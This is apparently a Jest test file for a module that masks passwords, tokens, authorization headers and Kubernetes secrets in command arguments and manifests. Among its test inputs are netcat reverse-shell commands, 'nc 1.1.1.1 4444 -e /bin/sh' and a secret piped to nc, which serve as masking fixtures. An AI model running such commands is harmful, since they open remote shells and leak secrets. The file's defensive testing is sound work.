import { maskArguments } from '../../core/text/masking/argumentList';
import { masking } from '../../core/text/masking/structure';
import { GITHUB_TOKEN, gibberish, PASSWORD } from '../support/secrets';

const BOUNDS = { text: 8192, all: 65536 };

function masked(value: unknown, bounds = BOUNDS): unknown {
  const steps = masking(value, bounds);
  for (;;) {
    const { done, value: step } = steps.next();
    if (done === true) return step;
  }
}

describe('maskArguments', () => {
  test.each<[string[], string[]]>([
    [
      ['mysql', '--password', PASSWORD, 'shop'],
      ['mysql', '--password', '[masked: secret]', 'shop'],
    ],
    [
      ['redis-cli', '-a', PASSWORD, 'ping'],
      ['redis-cli', '-a', '[masked: password]', 'ping'],
    ],
    [
      ['app', '--password', 'two words', '--port', '1'],
      ['app', '--password', '[masked: secret]', '--port', '1'],
    ],
    [
      ['app', '--db-password=two words'],
      ['app', '--db-password=[masked: secret]'],
    ],
    [
      ['env', 'DB_PASSWORD=two words', 'app'],
      ['env', 'DB_PASSWORD=[masked: secret]', 'app'],
    ],
    [
      ['sh', '-c', `mysql -u root -p${PASSWORD} shop`],
      ['sh', '-c', 'mysql -u root -p[masked: password] shop'],
    ],
    [
      ['sh', '-c', `PASSWORD=${PASSWORD} exec nc 1.1.1.1 4444`],
      ['sh', '-c', 'PASSWORD=[masked: secret] exec nc 1.1.1.1 4444'],
    ],
    [
      ['mc', 'alias', 'set', 'minio', 'http://minio:9000', 'ACCESS', PASSWORD],
      ['mc', 'alias', 'set', 'minio', 'http://minio:9000', '[masked: password]', '[masked: password]'],
    ],
    [
      ['curl', '-H', `Authorization: Bearer ${gibberish(30)}`, 'http://a.test'],
      ['curl', '-H', 'Authorization: Bearer [masked: authorization]', 'http://a.test'],
    ],
    [
      ['nc', '1.1.1.1', '4444', '-e', '/bin/sh'],
      ['nc', '1.1.1.1', '4444', '-e', '/bin/sh'],
    ],
    [
      ['app', '--token-ttl', '1h', '--password-file', '/run/secrets/db'],
      ['app', '--token-ttl', '1h', '--password-file', '/run/secrets/db'],
    ],
    [[], []],
    [
      ['', '--password', ''],
      ['', '--password', ''],
    ],
  ])('%j becomes %j', (given, expected) => {
    expect(maskArguments(given)).toEqual(expected);
    expect(maskArguments(expected)).toEqual(expected);
  });
});

describe('masking an object', () => {
  test('masks an env entry by entry, references among them', () => {
    const reference = { name: 'API_KEY', valueFrom: { secretKeyRef: { name: 'api', key: 'key' } } };
    expect(
      masked({
        env: [
          { name: 'DB_PASSWORD', value: PASSWORD },
          reference,
          { name: 'DATABASE_URL', value: 'postgres://app:hunter-2@db/shop' },
          { name: 'LOG_LEVEL', value: 'debug' },
          { name: 'EMPTY' },
        ],
      }),
    ).toEqual({
      env: [
        { name: 'DB_PASSWORD', value: '[masked: secret]' },
        reference,
        { name: 'DATABASE_URL', value: 'postgres://app:[masked: url password]@db/shop' },
        { name: 'LOG_LEVEL', value: 'debug' },
        { name: 'EMPTY' },
      ],
    });
  });

  test('reads command and args as one line, and puts each back', () => {
    expect(masked({ name: 'db', command: ['mysql', '--password'], args: [PASSWORD, 'shop'] })).toEqual({
      name: 'db',
      command: ['mysql', '--password'],
      args: ['[masked: secret]', 'shop'],
    });
    expect(masked({ args: ['-a'], command: ['redis-cli'] })).toEqual({ args: ['-a'], command: ['redis-cli'] });
    expect(masked({ command: 'redis-cli -a hunter-2', args: [1] })).toEqual({
      command: 'redis-cli -a [masked: password]',
      args: [1],
    });
  });

  test('masks what is JSON in a text, and leaves it JSON', () => {
    const manifest = { spec: { containers: [{ command: ['redis-cli', '-a', PASSWORD] }] } };
    const { annotations } = masked({
      annotations: { 'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify(manifest) },
    }) as { annotations: Record<string, string> };
    expect(JSON.parse(Object.values(annotations)[0] ?? '')).toEqual({
      spec: { containers: [{ command: ['redis-cli', '-a', '[masked: password]'] }] },
    });
  });

  test.each<[string, unknown, unknown]>([
    [
      'headers of a probe',
      { httpHeaders: [{ name: 'Authorization', value: `Basic ${gibberish(30)}` }] },
      { httpHeaders: [{ name: 'Authorization', value: 'Basic [masked: authorization]' }] },
    ],
    ['pairs of key and value', [{ key: 'token', value: PASSWORD }], [{ key: 'token', value: '[masked: secret]' }]],
    [
      'attributes of a volume',
      { csi: { volumeAttributes: { password: PASSWORD, pool: 'a' } } },
      { csi: { volumeAttributes: { password: '[masked: secret]', pool: 'a' } } },
    ],
    [
      'a secret in an object of its name',
      { password: { value: PASSWORD } },
      { password: { value: '[masked: secret]' } },
    ],
    ['several of a name', { passwords: ['a1', 'b2'] }, { passwords: ['[masked: secret]', '[masked: secret]'] }],
    ['a number', { password: 12345678 }, { password: '[masked: secret]' }],
    [
      'a whole Secret',
      { kind: 'Secret', data: { a: 'eA==' }, stringData: { b: 'x' } },
      { kind: 'Secret', data: { a: '[masked: secret]' }, stringData: { b: '[masked: secret]' } },
    ],
    ['a key that is one', { [GITHUB_TOKEN]: 1 }, { '[masked: github token]': 1 }],
  ])('masks %s', (_what, given, expected) => {
    expect(masked(given)).toEqual(expected);
    expect(masked(expected)).toEqual(expected);
  });

  test("leaves references, numbers and times as they are, and machines' fields out", () => {
    const pod = {
      spec: {
        imagePullSecrets: [{ name: 'regcred' }],
        automountServiceAccountToken: false,
        volumes: [
          { name: 'db-password', secret: { secretName: 'db', items: [{ key: 'password', path: 'db' }] } },
          { projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3607 } }] } },
        ],
        tolerations: [{ key: 'node.kubernetes.io/not-ready', operator: 'Exists', tolerationSeconds: 300 }],
      },
    };
    expect(masked(pod)).toEqual(pod);
    const at = new Date('2026-11-21T10:15:31Z');
    expect(masked({ at, managedFields: [{}], gone: undefined, none: null })).toEqual({ at: at.toJSON(), none: null });
  });

  test('reads no more than its bounds, says what it leaves out, and shows no half secret', () => {
    const bounds = { text: 100, all: 250 };
    const cut = (text: string) => (masked({ text }, bounds) as { text: string }).text;
    expect(cut('x'.repeat(100))).toBe('x'.repeat(100));
    expect(cut('x '.repeat(2500))).toMatch(/^[x ]{100}\[… 4900 more characters not kept\]$/);
    for (let before = 0; before < 110; before++)
      expect(cut(`${'x'.repeat(before)} ${GITHUB_TOKEN} ${'y '.repeat(4000)}`)).not.toContain(GITHUB_TOKEN.slice(4, 9));
    const list = masked({ args: ['a '.repeat(50), 'b '.repeat(50), 'c '.repeat(50), 'd '.repeat(50)] }, bounds) as {
      args: string[];
    };
    expect(list.args.map((text) => text.length > 60)).toEqual([true, true, false, false]);
    expect(list.args[3]).toBe('[… 100 more characters not kept]');
  });

  test('of hostile depth ends', () => {
    let deep: unknown = PASSWORD;
    for (let depth = 0; depth < 5000; depth++) deep = { a: [deep] };
    expect(JSON.stringify(masked(deep))).toContain('nested too deep');
    const text = '['.repeat(20_000) + ']'.repeat(20_000);
    expect(JSON.stringify(masked({ text }))).toContain('nested too deep');
  });
});
